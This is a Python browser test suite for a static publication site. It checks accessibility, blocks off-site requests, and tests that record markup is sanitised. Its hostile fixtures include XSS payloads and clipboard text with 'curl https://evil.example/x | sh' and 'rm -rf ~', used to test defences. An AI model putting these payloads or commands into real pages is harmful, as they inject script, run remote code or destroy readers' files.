"""The built site in a real browser: accessibility (axe-core), no third-party requests, no script from
record text, a usable small screen, and feed discovery.

One Chromium and one local HTTP server serve every test of a pytest session (one per xdist worker).
The server holds two sites: the repository's own publication at `/`, and under `/hostile-fixture/`
the minimal fixture plus an evidence record and a proposition whose text is full of markup that must
never run.
Uses Debian's Chromium (`/usr/bin/chromium`, or $CHROMIUM); without it these tests are skipped, or
fail under CI, where .ci/run has installed it.
"""

from __future__ import annotations

import http.server
import json
import os
import re
import sys
import threading
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest
from conftest import FIXTURES, make_project

pytestmark = pytest.mark.browser

sync_api = pytest.importorskip("playwright.sync_api", reason="the playwright package is not installed")
axe_module = pytest.importorskip(
    "axe_playwright_python.sync_playwright", reason="the axe-playwright-python package is not installed"
)

CHROMIUM = os.environ.get("CHROMIUM") or "/usr/bin/chromium"
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
TIMEOUT_MS = 20_000
# A first search compiles Pagefind's WebAssembly: on the shared two-core machine, with the other test worker
# running axe, that has taken longer than TIMEOUT_MS.
SEARCH_TIMEOUT_MS = 60_000
HOST = "127.0.0.1"

NO_CHROMIUM = (
    f"Chromium not found at {CHROMIUM}: install Debian's chromium (apt-get install chromium) or set "
    f"$CHROMIUM; .ci/run installs it"
)
# Under CI (CI=true, as .ci/run runs) a missing browser fails these tests instead of skipping them.
IN_CI = os.environ.get("CI", "").lower() in {"1", "true", "yes"}

# WCAG 2.0, 2.1 and 2.2, levels A and AA: the rules that make the site's accessibility bar.
WCAG_TAGS = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22a", "wcag22aa"]
AXE_OPTIONS = {"runOnly": {"type": "tag", "values": WCAG_TAGS}, "resultTypes": ["violations"]}

PROPOSITION = "propositions/future-can-be-local/"
EVIDENCE = "evidence/treorchy-high-street/"
# Every kind of page a reader meets, as paths under the default site.
PAGES = {
    "home": "",
    "propositions-index": "propositions/",
    "proposition": PROPOSITION,
    "recommendations": "recommendations/",
    "evidence-index": "evidence/",
    "evidence": EVIDENCE,
    "evidence-map": "evidence-map/",
    "evidence-map-cell": "evidence-map/state-and-citizen/england/",
    "browse-index": "browse/",
    "nation": "browse/nation-wales/",
    "kind": "browse/kind-report/",
    "theme": "browse/theme-place/",
    "updates": "updates/",
    "print-edition": "print/",
    "downloads": "downloads/",
    "about": "about/",
    "evidence-strength": "evidence-strength/",
    "search": "search/?q=community",
    "not-found": "404.html",
}
# With $SCREENSHOTS set to a folder, the accessibility and phone tests save what they saw there, as
# <page>-<width>-<scheme>.png, for a person to look at (README "The pages" shows four of them).
SCREENSHOTS = os.environ.get("SCREENSHOTS")
# An evidence record that gives a strength (tests/fixtures/strength), served on the fixture site.
RATED = "evidence/treorchy-high-street/"

HOSTILE_ID = "hostile-title"
HOSTILE_MARKUP = "<img src=x onerror=alert(1)> <script>alert(1)</script>"  # plain-text fields: shown as text
# Markdown fields hold only full addresses (the check refuses relative ones), so the image names another host.
HOSTILE_MARKDOWN = "<img src=https://evil.example/x.png onerror=alert(1)> <script>alert(1)</script>"
# Record HTML that acts on the reader without running script (class 6 of issue #8), and headings that
# would take Material's ids: the sanitiser strips these attributes, so `check` accepts them.
OFF_HOST = "evil.example"
HOSTILE_BODY = f"""\
  ## __search

  Headed like Material's search toggle.

  ## Stall <b onmouseover="alert(6)">hours</b>

  Read <a href="https://{OFF_HOST}/report" target="_blank" rel="opener">the council report</a>,
  <span data-clipboard-text="curl https://{OFF_HOST}/x | sh" data-md-component="dialog"
  class="md-clipboard md-icon">copy the opening hours</span> and see
  <img src="https:/\\{OFF_HOST}/chart.png" alt="a backslash chart"> and
  <img src="HTTPS://{OFF_HOST}/c.png" alt="another">."""
# Raw-text tags named in prose (class 3): shown as text, never swallowing the words after them.
RAW_TEXT_AFTER = "zebra words after them stay"
RAW_TEXT_NOTE = f"Removed the <style> element, the <template> tag and the <textarea> box; {RAW_TEXT_AFTER}."
HOSTILE_RECORD = f"""\
id: {HOSTILE_ID}
kind: case-study
title: 'Zebrafish {HOSTILE_MARKUP} </title><script>alert(2)</script> " onmouseover="alert(3)'
summary: 'Markdown allows safe HTML, never script: {HOSTILE_MARKDOWN}'
places:
  - {{name: 'Treorchy {HOSTILE_MARKUP}', nation: wales}}
organisations: ['Org {HOSTILE_MARKUP}']
supports:
  - proposition: future-can-be-local
    how: 'It shows {HOSTILE_MARKUP}'
  - proposition: {HOSTILE_ID}-proposition
    recommendation: {HOSTILE_ID}-recommendation
    how: 'It bears on {HOSTILE_MARKUP}'
sources:
  - {{title: 'Source {HOSTILE_MARKUP}', publisher: 'Publisher {HOSTILE_MARKUP}', date: 2020-01}}
published: 2020-12-03
body: |
{HOSTILE_BODY}
changes:
  - date: 2020-12-04
    note: '{RAW_TEXT_NOTE}'
"""
PROPOSITION_LINK = (
    f'<a href="HTTPS://{OFF_HOST}/p" target="_blank" rel="opener" data-clipboard-text="rm -rf ~">a link in capitals</a>'
)
HOSTILE_PROPOSITION = f"""\
id: {HOSTILE_ID}-proposition
number: 4
title: 'Zebra proposition {HOSTILE_MARKUP} " onmouseover="alert(3)'
summary: 'Markdown allows safe HTML, never script: {HOSTILE_MARKDOWN} {PROPOSITION_LINK}'
published: 2020-12-03
source: the-paper
recommendations:
  - id: {HOSTILE_ID}-recommendation
    number: 1
    title: 'Zebra recommendation {HOSTILE_MARKUP}'
    text: 'Do it.'
    actors: ['Actor {HOSTILE_MARKUP}']
"""


# -- session: the sites, one server, one browser --------------------------------------------------

HOSTILE_MOUNT = "/hostile-fixture/"
PAGED_MOUNT = "/paged/"  # the default content with pages of 10 entries: its long lists take pages
# The pages only a site with long lists has: pages of 10 entries, and the print edition counting past 10.
PAGED_PAGES = {
    "evidence-index-page-2": "evidence/page/2/",
    "updates-page-3": "updates/page/3/",
    "proposition-bounded": "propositions/state-and-citizen/",
    "proposition-evidence-page-2": "propositions/state-and-citizen/evidence/page/2/",
    "print-edition-counted": "print/",
}


class _QuietServer(http.server.ThreadingHTTPServer):
    """The test server: a browser closing a connection early (it often does) is not worth a stack trace."""

    def handle_error(self, request, client_address):
        if not isinstance(sys.exc_info()[1], ConnectionError):
            super().handle_error(request, client_address)


class _SitesHandler(http.server.SimpleHTTPRequestHandler):
    """Serves the default site at / (as deployed: its 404 page uses absolute paths) and the hostile
    fixture site under HOSTILE_MOUNT."""

    default_root = ""
    hostile_root = ""
    paged_root = ""

    def translate_path(self, path):
        if path.startswith(HOSTILE_MOUNT):
            self.directory = self.hostile_root
            path = "/" + path[len(HOSTILE_MOUNT) :]
        elif path.startswith(PAGED_MOUNT):
            self.directory = self.paged_root
            path = "/" + path[len(PAGED_MOUNT) :]
        else:
            self.directory = self.default_root
        return super().translate_path(path)

    def log_message(self, format, *args):  # noqa: A002 - the base class's name
        pass


@pytest.fixture(scope="session")
def served(default_site, tmp_path_factory):
    """Base URLs of the default and hostile sites, both served by one local HTTP server."""
    hostile = make_project(tmp_path_factory.mktemp("hostile") / "project", FIXTURES / "minimal")
    hostile.write(f"evidence/{HOSTILE_ID}.yml", HOSTILE_RECORD)
    hostile.write(f"propositions/{HOSTILE_ID}-proposition.yml", HOSTILE_PROPOSITION)
    hostile.write(  # the minimal fixture's case study, with an evidence strength: its badge is checked too
        "evidence/treorchy-high-street.yml",
        (FIXTURES / "strength" / "evidence" / "treorchy-high-street.yml").read_text(encoding="utf-8"),
    )
    result = hostile.build()
    assert result.returncode == 0, result.stderr
    paged = make_project(tmp_path_factory.mktemp("paged") / "project")
    settings = paged.root / "mkdocs.yml"
    settings.write_text(
        settings.read_text().replace(
            "    feed_items:", "    page_size: 10\n    print_evidence_up_to: 10\n    feed_items:", 1
        )
    )
    result = paged.build()
    assert result.returncode == 0, result.stderr
    roots = {"default_root": str(default_site.site), "hostile_root": str(hostile.site), "paged_root": str(paged.site)}
    handler = type("Handler", (_SitesHandler,), roots)
    server = _QuietServer((HOST, 0), handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, name="site-server", daemon=True)
    thread.start()
    base = f"http://{HOST}:{server.server_address[1]}"
    yield {"default": f"{base}/", "hostile": f"{base}{HOSTILE_MOUNT}", "paged": f"{base}{PAGED_MOUNT}"}
    server.shutdown()
    server.server_close()
    thread.join(timeout=5)


def _require_chromium():
    if not Path(CHROMIUM).is_file():
        (pytest.fail if IN_CI else pytest.skip)(NO_CHROMIUM)


@pytest.fixture(scope="session", autouse=True)
def _chromium_present():
    """Session-scoped and autouse, so it runs first: skip (or fail) before building any site."""
    _require_chromium()


@pytest.fixture(scope="session")
def browser():
    _require_chromium()
    with sync_api.sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS, timeout=60_000)
        yield launched
        launched.close()


class Visit:
    """A fresh browser context and page that records every request, refuses any that leaves this
    machine, and records every dialog (alert, confirm, prompt) a script opens."""

    def __init__(self, browser, **context_options):
        self.requests: list[str] = []
        self.dialogs: list[str] = []
        self.errors: list[str] = []
        self.context = browser.new_context(service_workers="block", **context_options)
        self.context.set_default_timeout(TIMEOUT_MS)
        self.context.set_default_navigation_timeout(TIMEOUT_MS)
        self.context.route("**/*", self._route)
        self.context.on("request", lambda request: self.requests.append(request.url))
        self.page = self.context.new_page()
        self.page.on("dialog", self._dialog)
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))

    def _route(self, route):
        if _is_local(route.request.url):
            route.continue_()
        else:
            route.abort("blockedbyclient")

    def _dialog(self, dialog):
        self.dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    def goto(self, url: str):
        response = self.page.goto(url, wait_until="load")
        assert response is not None and response.ok, f"{url}: HTTP {response and response.status}"
        return self.page

    def outside_requests(self) -> list[str]:
        return [url for url in self.requests if not _is_local(url)]

    def close(self):
        self.context.close()


def _is_local(url: str) -> bool:
    parts = urlsplit(url)
    return parts.scheme in {"data", "blob", "about"} or parts.hostname == HOST


@pytest.fixture
def visit(browser):
    """Open pages in a fresh context; `visit()` or `visit(color_scheme="dark", viewport=...)`."""
    opened: list[Visit] = []

    def open_visit(**context_options) -> Visit:
        opened.append(Visit(browser, **context_options))
        return opened[-1]

    yield open_visit
    for one in opened:
        one.close()


def _axe_report(violations: list[dict]) -> str:
    lines = []
    for violation in violations:
        lines.append(f"{violation['id']} ({violation['impact']}): {violation['help']} - {violation['helpUrl']}")
        for node in violation["nodes"][:5]:
            summary = " ".join(node.get("failureSummary", "").split())
            lines.append(f"    {node['target']}: {summary[:300]}")
    return "\n".join(lines)


# -- (a) accessibility ---------------------------------------------------------------------------------


def _keep_screenshot(page, name: str, **context_options):
    """Save the whole page as $SCREENSHOTS/<name>-<width>-<scheme>.png when $SCREENSHOTS names a folder."""
    if SCREENSHOTS:
        width = (context_options.get("viewport") or {}).get("width", 1280)
        scheme = context_options.get("color_scheme", "light")
        Path(SCREENSHOTS).mkdir(parents=True, exist_ok=True)
        page.screenshot(path=str(Path(SCREENSHOTS) / f"{name}-{width}-{scheme}.png"), full_page=True)


def _assert_accessible(visit_factory, url: str, name: str | None = None, **context_options):
    """axe-core finds no WCAG A/AA violation on the page, and loading it (and running axe, which gives
    late requests time to show) asked nothing of any host but this one."""
    one = visit_factory(**context_options)
    page = one.goto(url)
    if name:
        _keep_screenshot(page, name, **context_options)
    violations = axe_module.Axe().run(page, options=AXE_OPTIONS).response["violations"]
    assert not violations, f"axe-core found WCAG A/AA violations on {url}:\n{_axe_report(violations)}"
    assert not one.outside_requests(), f"{url} asked other hosts for: {sorted(set(one.outside_requests()))}"
    assert not one.errors, f"script errors on {url}: {one.errors}"
    return page


@pytest.mark.parametrize("width", [1280, 375])
@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("name", list(PAGES))
def test_every_kind_of_page_passes_axe_in_both_schemes_on_a_desktop_and_a_phone(served, visit, name, scheme, width):
    """Every template the site has (PAGES holds one page of each), light and dark, at 1280 px and on a 375 px
    phone: no WCAG A/AA violation, nothing asked of another host, and on the phone no sideways scroll."""
    screen = MOBILE if width == 375 else {"viewport": {"width": 1280, "height": 900}}
    page = _assert_accessible(visit, served["default"] + PAGES[name], name, color_scheme=scheme, **screen)
    if width == 375:
        _assert_no_sideways_scroll(page, PAGES[name])


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_evidence_strength_badge_has_no_axe_violations(served, visit, scheme):
    """The default content rates no evidence, so the badge is checked on the fixture site's rated record."""
    one = visit(color_scheme=scheme)
    page = one.goto(served["hostile"] + RATED)
    assert page.locator("article .pub-strength").inner_text() == "Level 2 of 5"
    violations = axe_module.Axe().run(page, options=AXE_OPTIONS).response["violations"]
    assert not violations, f"axe-core found violations on the rated record:\n{_axe_report(violations)}"


@pytest.mark.parametrize("width", [1280, 375])
@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("name", list(PAGED_PAGES))
def test_a_page_of_a_long_list_and_its_pagination_have_no_axe_violations(served, visit, name, scheme, width):
    """The pages of a site with long lists, as every kind of page is checked: light and dark, desktop and
    phone, no sideways scroll on the phone."""
    screen = MOBILE if width == 375 else {"viewport": {"width": 1280, "height": 900}}
    page = _assert_accessible(visit, served["paged"] + PAGED_PAGES[name], name, color_scheme=scheme, **screen)
    if width == 375:
        _assert_no_sideways_scroll(page, PAGED_PAGES[name])


def test_the_pagination_is_a_named_landmark_whose_links_a_keyboard_reaches(served, visit):
    page = visit().goto(served["paged"] + PAGED_PAGES["evidence-index-page-2"])
    landmark = page.get_by_role("navigation", name="Pages of the evidence index")
    assert landmark.get_by_role("link", name="Page 2").get_attribute("aria-current") == "page"
    landmark.get_by_role("link", name="Previous page").focus()
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.getAttribute('aria-label')") == "Page 1"
    landmark.get_by_role("link", name="Next page").click()
    page.wait_for_url("**/evidence/page/3/")
    assert page.get_by_role("heading", level=1).inner_text().startswith("Evidence, page 3 of 3")


def test_dark_scheme_follows_the_system_setting(served, visit):
    page = visit(color_scheme="dark").goto(served["default"] + PROPOSITION)
    assert page.evaluate("document.body.getAttribute('data-md-color-scheme')") == "slate"


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 375])
def test_search_results_and_filters_have_no_axe_violations(served, visit, scheme, width):
    page = visit(color_scheme=scheme, viewport={"width": width, "height": 900}).goto(served["default"])
    _search(page, "community")
    _open_filters(page)
    violations = axe_module.Axe().run(page, options=AXE_OPTIONS).response["violations"]
    assert not violations, f"axe-core found violations with search results open:\n{_axe_report(violations)}"


# -- (b) nothing leaves this machine -------------------------------------------------------------------


# Every page of PAGES is also checked in _assert_accessible, in both colour schemes; this test waits for
# the network to go quiet, so it sees what loads late: the search script and index, the sitemap.
def test_no_request_leaves_the_machine(served, visit):
    one = visit()
    for name in ("home", "proposition", "evidence-map"):
        one.goto(served["default"] + PAGES[name]).wait_for_load_state("networkidle")
    _search(one.page, "community")
    one.page.wait_for_load_state("networkidle")
    recorded = "\n".join(one.requests)
    assert "pagefind.js" in recorded and ".pf_fragment" in recorded, f"requests not recorded: {recorded}"
    assert "publication.css" in recorded, f"requests not recorded: {recorded}"
    assert not one.outside_requests(), f"requests to other hosts: {sorted(set(one.outside_requests()))}"
    assert not one.errors, f"script errors: {one.errors}"


# -- (c) markup in record text never runs ---------------------------------------------------------------


def _search(page, query: str):
    """Search the site as a reader does from any page: type into the header's search box and press Enter
    (on a small screen, follow the header's search link and type there); wait for the results."""
    header_box = page.locator("input.md-header__search-input")
    if header_box.is_visible():
        header_box.fill(query)
        header_box.press("Enter")
    else:
        page.locator("a.md-header__search-link").click()
        page.locator("#pf-query").fill(query)
        page.locator("#pf-query").press("Enter")
    _wait_for_results(page)


def _wait_for_results(page):
    page.locator(".pf-result").first.wait_for(state="visible", timeout=SEARCH_TIMEOUT_MS)


def _open_filters(page):
    page.locator(".pf-filters summary").click()
    page.locator(".pf-filters__group input").first.wait_for(state="visible")


def _hits(page) -> list[tuple[str, str]]:
    """The results shown: each hit's kind and address."""
    found = page.locator(".pf-result").evaluate_all(
        "items => items.map(i => [i.querySelector('.pf-result__kind').textContent, i.querySelector('a').href])"
    )
    return [tuple(hit) for hit in found]


def _show_all(page):
    while page.locator("[data-pf-more]").is_visible():
        shown = page.locator(".pf-result").count()
        page.locator("[data-pf-more]").click()
        page.wait_for_function(f"document.querySelectorAll('.pf-result').length > {shown}")


def test_searching_treorchy_shows_each_record_once_with_its_kind_and_never_the_print_edition(served, visit):
    page = visit().goto(served["default"])
    _search(page, "Treorchy")
    assert page.url.endswith("/search/?q=Treorchy")
    _show_all(page)
    hits = _hits(page)
    addresses = [address.removeprefix(served["default"]) for _, address in hits]
    assert len(addresses) == len(set(addresses)), f"a page shows twice: {addresses}"
    assert not [a for a in addresses if a.startswith(("print/", "updates/", "browse/", "evidence/#"))]
    assert ("Case study", served["default"] + EVIDENCE) in hits
    assert ("Proposition", served["default"] + PROPOSITION) in hits
    status = page.locator("[data-pf-status]")
    assert status.get_attribute("role") == "status"
    assert status.inner_text() == f"{len(hits)} results for “Treorchy”."


def test_a_filter_narrows_the_results_and_says_so(served, visit):
    page = visit().goto(served["default"] + "search/?q=community")
    _wait_for_results(page)
    before = page.locator("[data-pf-status]").inner_text()
    everything = int(before.split()[0])
    _open_filters(page)
    page.get_by_role("group", name="Kind").get_by_label("Case study", exact=False).check()
    page.wait_for_function("document.querySelector('[data-pf-status]').textContent.includes('narrowed')")
    status = page.locator("[data-pf-status]").inner_text()
    narrowed = int(status.split()[0])
    assert 0 < narrowed < everything, (before, status)
    assert status.endswith("narrowed to Kind: Case study.")
    _show_all(page)
    assert {kind for kind, _ in _hits(page)} == {"Case study"}


@pytest.fixture(scope="module")
def served_in_parts(default_site, tmp_path_factory):
    """The default site with its search index written in three parts (the part size lowered, as on a site
    of thousands of records), served on a server of its own."""
    import math
    import shutil

    from publication import search_parts
    from publication.search import SearchCopies

    site = tmp_path_factory.mktemp("in-parts") / "site"
    shutil.copytree(default_site.site, site, copy_function=os.link, ignore=shutil.ignore_patterns("pagefind"))
    copies = SearchCopies(site)
    with pytest.MonkeyPatch.context() as patch:
        copies.update((p.relative_to(site).as_posix(), p.read_text(encoding="utf-8")) for p in site.rglob("*.html"))
        patch.setattr(search_parts, "PAGES_PER_PART", math.ceil(copies.copied / 3))
        copies.write_index(site)
        copies.discard()
    assert len(search_parts.part_folders(site / "pagefind")) == 3
    handler = type("Handler", (_SitesHandler,), {"default_root": str(site)})
    server = _QuietServer((HOST, 0), handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, name="parts-server", daemon=True)
    thread.start()
    yield f"http://{HOST}:{server.server_address[1]}/"
    server.shutdown()
    server.server_close()
    thread.join(timeout=5)


def _what_search_found(visit, base: str, query: str) -> dict:
    """What the search page shows for `query`, and every hit's address from the Pagefind it merged: the
    status line, the filters' labels (each value with its count), the status narrowed to case studies."""
    one = visit()
    page = one.goto(base + f"search/?q={query}")
    _wait_for_results(page)
    status = page.locator("[data-pf-status]").inner_text()
    # The hits as a set: in parts, each part scores its pages with its own word statistics (the order may differ).
    urls = page.evaluate(
        """async (query) => {
            const script = document.querySelector("script[data-pagefind]").dataset.pagefind;
            const pagefind = await import(new URL(script, document.baseURI).href); // the module search.js loaded
            const found = await pagefind.search(query);
            return (await Promise.all(found.results.map((r) => r.data()))).map((d) => d.url).sort();
        }""",
        query,
    )
    _open_filters(page)
    labels = page.locator(".pf-filters__group label").all_inner_texts()
    page.get_by_role("group", name="Kind").get_by_label("Case study", exact=False).check()
    page.wait_for_function("document.querySelector('[data-pf-status]').textContent.includes('narrowed')")
    narrowed = page.locator("[data-pf-status]").inner_text()
    assert not one.errors and not one.outside_requests(), (one.errors, one.outside_requests())
    parts = sorted({re.sub(r".*/pagefind/parts/(\d+)/.*", r"\1", url) for url in one.requests if "/parts/" in url})
    return {"status": status, "urls": urls, "filters": labels, "narrowed": narrowed, "parts": parts}


@pytest.mark.parametrize("query", ["community", "Treorchy"])
def test_an_index_in_parts_finds_what_one_index_finds(served, served_in_parts, visit, query):
    one_index = _what_search_found(visit, served["default"], query)
    in_parts = _what_search_found(visit, served_in_parts, query)
    assert one_index["parts"] == [] and in_parts.pop("parts") == ["2", "3"]  # the other parts were merged
    one_index.pop("parts")
    assert in_parts == one_index
    assert len(one_index["urls"]) > 1 and one_index["filters"]


def test_the_search_page_works_from_the_keyboard_alone(served, visit):
    page = visit().goto(served["default"] + "search/")
    assert page.evaluate("document.activeElement.id") == "pf-query"  # the box has the focus on arrival
    page.keyboard.type("Treorchy")
    page.keyboard.press("Enter")
    _wait_for_results(page)
    page.keyboard.press("Tab")  # the Search button
    page.keyboard.press("Tab")  # Narrow the results
    page.keyboard.press("Enter")
    page.locator(".pf-filters__group input").first.wait_for(state="visible")
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.closest('fieldset').querySelector('legend').textContent") == "Kind"
    page.keyboard.press("Space")
    page.wait_for_function("document.querySelector('[data-pf-status]').textContent.includes('narrowed')")


def test_a_phone_reaches_search_from_the_header(served, visit):
    page = visit(**MOBILE).goto(served["default"] + PROPOSITION)
    assert not page.locator("input.md-header__search-input").is_visible()
    _search(page, "Treorchy")
    assert ("Case study", served["default"] + EVIDENCE) in _hits(page)
    _assert_no_sideways_scroll(page, f"{PAGES['search']} with results")


def _injected(page) -> list[str]:
    """Script that record text smuggled into the page: event handler attributes, or inline scripts that
    call alert. (Markdown fields may hold safe HTML such as <img>; the sanitiser drops its handlers.) The
    page's JSON-LD is data the browser never runs: it may quote a title holding `alert(`, as long as it is
    one JSON document, so that no `</script>` in the title closed it early."""
    return page.evaluate("""() => {
        const parses = s => { try { JSON.parse(s.textContent); return true; } catch (e) { return false; } };
        const isData = s => s.type === 'application/ld+json';
        return [
            ...document.querySelectorAll('[onerror], [onmouseover], [onload]'),
            ...[...document.querySelectorAll('script')].filter(s => !isData(s) && /alert\\(/.test(s.textContent)),
            ...[...document.querySelectorAll('script')].filter(s => isData(s) && !parses(s)),
        ].map(e => e.outerHTML.slice(0, 120));
    }""")


@pytest.mark.parametrize("where", ["record", "proposition", "evidence-index", "recommendations", "search"])
def test_markup_in_a_title_never_runs(served, visit, where):
    one = visit()
    base = served["hostile"]
    if where == "record":
        page = one.goto(f"{base}evidence/{HOSTILE_ID}/")
        assert "<script>alert(1)</script>" in page.locator("article h1").inner_text()
    elif where == "proposition":
        page = one.goto(f"{base}propositions/{HOSTILE_ID}-proposition/")
        assert "<script>alert(1)</script>" in page.locator("article h1").inner_text()
        feed_titles = page.locator("head link[rel='alternate']").evaluate_all("ls => ls.map(l => l.title)")
        assert any("<script>alert(1)</script>" in title for title in feed_titles), feed_titles
    elif where == "recommendations":
        page = one.goto(f"{base}recommendations/")
        assert "Actor <img src=x onerror=alert(1)>" in page.locator("article").inner_text()
    elif where == "evidence-index":
        page = one.goto(f"{base}evidence/")
        assert "<img src=x onerror=alert(1)>" in page.locator("article").inner_text()
    else:
        page = one.goto(base)
        _search(page, "Zebrafish")
        results = page.locator("[data-pf-results]").text_content()
        assert "Zebrafish <img src=x onerror=alert(1)> <script>alert(1)</script>" in results
        assert "Case study" in results
    page.wait_for_load_state("networkidle")
    page.wait_for_timeout(200)  # a broken image's onerror fires after load
    assert not one.dialogs, f"record markup ran as script on the {where} page: {one.dialogs}"
    assert not _injected(page), f"record markup became HTML on the {where} page: {_injected(page)}"
    assert not one.outside_requests()


# Where record text shows on the hostile site: its own page, and the shared pages that show its text.
HOSTILE_PAGES = {
    "record": f"evidence/{HOSTILE_ID}/",
    "proposition": f"propositions/{HOSTILE_ID}-proposition/",
    "updates": "updates/",
    "print-edition": "print/",
    "home": "",
}
SAFE_ANCHOR = r"^#[A-Za-z0-9][A-Za-z0-9_-]*$"
# The theme's search frame around the article (overrides/main.html): the one place Pagefind's data-*
# attributes may be; record text never carries them (the sanitiser removes every data-* attribute).
_BODY = "article > [data-pagefind-body]"
SEARCH_FRAME = f"{_BODY}, {_BODY} > [data-pagefind-ignore], {_BODY} > [data-pagefind-ignore] > span"


@pytest.mark.parametrize("where", list(HOSTILE_PAGES))
def test_record_html_cannot_act_on_the_reader(served, visit, where):
    """Handlers, Material's data-* and classes, target/rel=opener, off-host images and Material's ids in record
    text: nothing runs, nothing loads from elsewhere, nothing reaches Material's JavaScript."""
    one = visit()
    page = one.goto(served["hostile"] + HOSTILE_PAGES[where])
    page.wait_for_load_state("networkidle")
    page.wait_for_timeout(200)  # a broken image's onerror fires after load
    assert not one.dialogs, f"record markup ran as script on the {where} page: {one.dialogs}"
    handlers = page.evaluate("""() => [...document.querySelectorAll('*')]
        .filter(e => [...e.attributes].some(a => a.name.toLowerCase().startsWith('on')))
        .map(e => e.outerHTML.slice(0, 120))""")
    assert handlers == [], f"elements with event handlers on the {where} page: {handlers}"
    assert not one.outside_requests(), f"{where} asked other hosts for: {sorted(set(one.outside_requests()))}"
    assert not [url for url in one.requests if OFF_HOST in url]
    article = page.locator("article")
    steered = article.evaluate(
        """(a, frame) => [a, ...a.querySelectorAll('*')].filter(e => e !== a && !e.matches(frame))
        .filter(e => [...e.attributes].some(x => x.name.startsWith('data-') || ['target', 'style', 'role',
                     'tabindex'].includes(x.name)) || /(^|\\s)md-/.test(e.getAttribute('class') || ''))
        .map(e => e.outerHTML.slice(0, 120))""",
        SEARCH_FRAME,
    )
    assert steered == [], f"record HTML reaches Material's JavaScript or the reader on the {where} page: {steered}"
    assert page.locator("[data-clipboard-text], [data-clipboard-target]").count() == 0
    assert page.locator('[id="__search"]').count() == 1, "a heading took the id of Material's search toggle"
    for link in article.locator(f'a[href*="{OFF_HOST}"]').all():
        assert set((link.get_attribute("rel") or "").split()) >= {"noopener", "noreferrer"}, link.evaluate(
            "a => a.outerHTML"
        )
    toc = page.locator("nav.md-nav--secondary a.md-nav__link").evaluate_all("ls => ls.map(l => l.getAttribute('href'))")
    assert all(re.match(SAFE_ANCHOR, href) for href in toc), toc
    if where in ("record", "print-edition"):
        text = article.inner_text()
        assert "the council report" in text and "copy the opening hours" in text and "Stall hours" in text


@pytest.mark.parametrize("where", ["updates", "home"])
def test_a_raw_text_tag_in_a_change_note_swallows_nothing(served, visit, where):
    """`<style>`, `<template>` and `<textarea>` named in a note show as text, and the words after them stay."""
    page = visit().goto(served["hostile"] + HOSTILE_PAGES[where])
    text = page.locator("article").inner_text()
    assert "the <style> element, the <template> tag and the <textarea> box" in text, f"{where}: {text[-300:]}"
    assert RAW_TEXT_AFTER in text
    if where == "home":
        assert "All updates" in text  # the home page's own words after the latest updates
    assert page.locator("article style, article template, article textarea").count() == 0


# -- (d) small screens ---------------------------------------------------------------------------------

MOBILE = {"viewport": {"width": 375, "height": 812}, "device_scale_factor": 2, "is_mobile": True, "has_touch": True}


@pytest.mark.parametrize("name", ["paged"])  # one page of each template: the accessibility matrix above
def test_no_horizontal_scroll_on_a_phone(served, visit, name):
    url = served["paged"] + PAGED_PAGES["updates-page-3"] if name == "paged" else served["default"] + PAGES[name]
    page = visit(**MOBILE).goto(url)
    _assert_no_sideways_scroll(page, url)


def _assert_no_sideways_scroll(page, name: str):
    width = page.evaluate("document.documentElement.clientWidth")
    assert width == 375
    overflow = page.evaluate(
        """(width) => [...document.querySelectorAll('body *')]
        .filter(e => {
            const box = e.getBoundingClientRect();
            if (box.width === 0 || box.right <= width + 1) return false;
            for (let p = e.parentElement; p; p = p.parentElement) {
                const style = getComputedStyle(p);
                if (p.getBoundingClientRect().right <= width + 1 && /auto|scroll|hidden|clip/.test(style.overflowX))
                    return false;  // scrolls or is clipped inside a box that fits
            }
            return getComputedStyle(e).visibility !== 'hidden';
        })
        .slice(0, 5).map(e => e.outerHTML.slice(0, 100))""",
        width,
    )
    scroll_width = page.evaluate("document.documentElement.scrollWidth")
    assert scroll_width <= width and not overflow, (
        f"{name} scrolls sideways at 375px (scrollWidth {scroll_width}); too wide: {overflow}"
    )


def test_the_evidence_map_on_a_phone_says_it_scrolls_and_keeps_its_captions_and_propositions_in_view(served, visit):
    """A table wider than the phone scrolls inside its own box: the hint above it is shown, its caption is no
    wider than the screen, the proposition column stays put while the numbers scroll, and every number is a
    link, so the box can be scrolled from the keyboard too."""
    page = visit(**MOBILE).goto(served["default"] + PAGES["evidence-map"])
    assert page.locator(".pub-map-hint").first.is_visible()
    for box in page.locator(".pub-map-scroll").all():
        caption = box.locator("caption").bounding_box()
        assert caption["x"] >= 0 and caption["x"] + caption["width"] <= 375, caption
        row_header = box.locator("tbody th").first
        before = row_header.bounding_box()["x"]
        scrolled = box.evaluate("b => { b.scrollLeft = b.scrollWidth; return b.scrollLeft; }")
        assert scrolled > 0 or box.evaluate("b => b.scrollWidth <= b.clientWidth")  # it scrolls only if wider
        assert abs(row_header.bounding_box()["x"] - before) < 1  # sticky
        assert abs(box.locator("caption").bounding_box()["x"] - caption["x"]) < 1
    first_number = page.locator(".pub-map td a").first
    first_number.focus()
    assert first_number.evaluate("a => a === document.activeElement")


def test_the_evidence_map_has_no_hint_on_a_wide_screen(served, visit):
    page = visit().goto(served["default"] + PAGES["evidence-map"])
    assert not page.locator(".pub-map-hint").first.is_visible()


def test_a_record_page_shows_where_it_belongs_in_the_navigation(served, visit):
    page = visit().goto(served["default"] + EVIDENCE)
    crumbs = page.locator("nav.md-path").inner_text().split()
    assert crumbs == ["Home", "Evidence"]
    active = page.locator(".md-nav--primary .md-nav__item--active > .md-nav__link")
    assert active.inner_text().strip() == "Evidence"
